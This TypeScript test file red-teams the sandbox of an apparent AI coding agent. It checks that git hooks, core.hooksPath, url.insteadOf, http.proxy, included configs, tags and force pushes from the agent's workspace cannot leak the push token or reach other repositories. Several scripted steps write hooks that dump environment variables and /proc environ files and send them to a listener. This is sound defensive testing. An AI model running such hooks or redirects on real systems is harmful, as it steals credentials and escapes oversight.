// I1 and I4, pushing: the agent owns every byte of its repository, .git included.
// Whatever it puts there, the sidecar's push (which carries the token) runs none of
// its code, takes none of its configuration, reaches only the bottle's own branch
// of the bottle's own repository, and sends nothing to anyone but the forge.
import { probeDocker } from '@bb/tooling/docker';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exfil, RedTeam, type Step } from './harness';

const docker = await probeDocker();

// On each built-in forge kind: their git remotes carry the token differently.
describe.skipIf(!docker.ok).each(['gitea', 'github'] as const)(
  'red team: pushing across the wall (%s)',
  (kind) => {
    const rt = new RedTeam(kind);
    beforeAll(() => rt.start());
    afterAll(() => rt.stop());

    const commitAndOpen: Step[] = [
      { do: 'write', path: 'fix.txt', content: 'fixed\n' },
      { do: 'commit', message: 'Fix' },
      { do: 'call', method: 'open_pr', params: { title: 'Fix' }, mayFail: true },
    ];
    const before = () => rt.listener.heard.length;
    const opened = (run: { steps: Array<Record<string, unknown>> }) =>
      run.steps.find((s) => s['method'] === 'open_pr');

    it('a pre-push hook in .git/hooks runs nowhere', async () => {
      const heard = before();
      const run = await rt.launch([
        [
          {
            do: 'sh',
            cmd: `printf '#!/bin/sh\\ntouch /workspace/HOOK_RAN\\n${exfil(rt.listener.port, '$(env)').replaceAll("'", "'\\''")}\\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push`,
          },
          ...commitAndOpen,
        ],
      ]);
      // The hook was planted, and never ran.
      expect((await rt.lstatWorkspace(run, '.git/hooks/pre-push'))?.isFile()).toBe(true);
      expect(await rt.lstatWorkspace(run, 'HOOK_RAN')).toBeUndefined();
      expect(rt.listener.heard.slice(heard)).toBe('');
      expect(opened(run)?.['ok']).toBe(true);
    });

    it('core.hooksPath pointing into the workspace runs nowhere', async () => {
      const heard = before();
      // Hooks the agent's own git may run in its own container (it has no network);
      // only one run outside it, where the token is, could reach the listener.
      const hook = `#!/bin/sh\\n${exfil(rt.listener.port, 'hook $0 ran').replaceAll("'", "'\\''")}\\n`;
      const run = await rt.launch([
        [
          {
            do: 'sh',
            cmd: `mkdir -p /workspace/.hooks && for h in pre-push push-to-checkout reference-transaction post-update pre-receive update; do printf '${hook}' > .hooks/$h; chmod +x .hooks/$h; done && git config core.hooksPath /workspace/.hooks`,
          },
          ...commitAndOpen,
        ],
      ]);
      expect((await rt.lstatWorkspace(run, '.hooks/pre-push'))?.isFile()).toBe(true);
      expect(rt.listener.heard.slice(heard)).toBe('');
      expect(opened(run)?.['ok']).toBe(true);
    });

    it('url.<listener>.insteadOf does not send the push (and the token) to a listener', async () => {
      const heard = before();
      const forge = new URL(rt.forgeUrl);
      const run = await rt.launch([
        [
          {
            do: 'sh',
            cmd: `git config url.http://127.0.0.1:${rt.listener.port}/.insteadOf http://${forge.host}/`,
          },
          ...commitAndOpen,
        ],
      ]);
      for (const t of rt.tokenForms) expect(rt.listener.heard.slice(heard)).not.toContain(t);
      expect(rt.listener.heard.slice(heard)).toBe('');
      expect(opened(run)?.['ok']).toBe(true);
    });

    it('http.proxy does not route the push through a listener', async () => {
      const heard = before();
      const run = await rt.launch([
        [
          { do: 'sh', cmd: `git config http.proxy http://127.0.0.1:${rt.listener.port}` },
          ...commitAndOpen,
        ],
      ]);
      expect(rt.listener.heard.slice(heard)).toBe('');
      expect(opened(run)?.['ok']).toBe(true);
    });

    it('an included config file from the workspace applies to nothing', async () => {
      const heard = before();
      await rt.launch([
        [
          {
            do: 'sh',
            cmd: `printf '[http]\\n\\tproxy = http://127.0.0.1:${rt.listener.port}\\n' > /workspace/.evil.cfg && git config include.path /workspace/.evil.cfg`,
          },
          ...commitAndOpen,
        ],
      ]);
      expect(rt.listener.heard.slice(heard)).toBe('');
    });

    it('url.insteadOf cannot redirect the push into another repository', async () => {
      const other = await rt.refs('acme/other');
      const forge = rt.cloneUrl('acme/widgets');
      const run = await rt.launch([
        [
          {
            do: 'sh',
            cmd: `git config url.${rt.cloneUrl('acme/other')}.insteadOf ${forge}`,
          },
          ...commitAndOpen,
        ],
      ]);
      expect(await rt.refs('acme/other')).toEqual(other);
      // The push went where it belongs.
      expect(opened(run)?.['ok']).toBe(true);
      expect(await rt.refs('acme/widgets')).toContain(`refs/heads/${rt.meta(run).branch}`);
    });

    it('tags in the workspace never reach the forge (push.followTags)', async () => {
      const run = await rt.launch([
        [
          { do: 'write', path: 'fix.txt', content: 'fixed\n' },
          { do: 'commit', message: 'Fix' },
          {
            do: 'sh',
            cmd: 'git tag -a v99 -m release && git tag light99 && git config push.followTags true',
          },
          { do: 'call', method: 'push', mayFail: true },
        ],
      ]);
      expect((await rt.refs('acme/widgets')).filter((r) => r.startsWith('refs/tags/'))).toEqual([]);
      expect(run.steps.find((s) => s['method'] === 'push')?.['ok']).toBe(true);
    });

    it('a push never forces over commits on the branch that the workspace lacks', async () => {
      // Someone else's commit already on the bottle's branch.
      const first = await rt.launch([
        [
          { do: 'write', path: 'a.txt', content: 'a\n' },
          { do: 'commit', message: 'A' },
          { do: 'call', method: 'push' },
        ],
      ]);
      const branch = rt.meta(first).branch;
      const tip = (await rt.refs('acme/widgets')).includes(`refs/heads/${branch}`);
      expect(tip).toBe(true);
      const dir = rt.gitea.git.dirOf('acme', 'widgets');
      const before = await rt.gitea.git.git(dir, ['rev-parse', `refs/heads/${branch}`]);
      // A second bottle of the same agent for the same issue: the same branch, other history.
      const second = await rt.launch(
        [
          [
            { do: 'write', path: 'b.txt', content: 'b\n' },
            { do: 'commit', message: 'B' },
            {
              do: 'sh',
              cmd: 'git config push.default matching && git config remote.pushDefault x',
            },
            { do: 'call', method: 'push', mayFail: true },
          ],
        ],
        { name: rt.meta(first).agent },
      );
      expect(rt.meta(second).branch).toBe(branch);
      expect(await rt.gitea.git.git(dir, ['rev-parse', `refs/heads/${branch}`])).toBe(before);
      expect(second.steps.find((s) => s['method'] === 'push')?.['ok']).toBe(false);
    });

    it('a hook cannot read the token from the pushing process', async () => {
      const heard = before();
      await rt.launch([
        [
          {
            do: 'sh',
            cmd: `printf '#!/bin/sh\\ncat /proc/*/environ /run/bb*/* 2>/dev/null | ${exfil(rt.listener.port, '$(cat)').replaceAll("'", "'\\''")}\\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push`,
          },
          ...commitAndOpen,
        ],
      ]);
      for (const t of rt.tokenForms) expect(rt.listener.heard.slice(heard)).not.toContain(t);
    });
  },
);
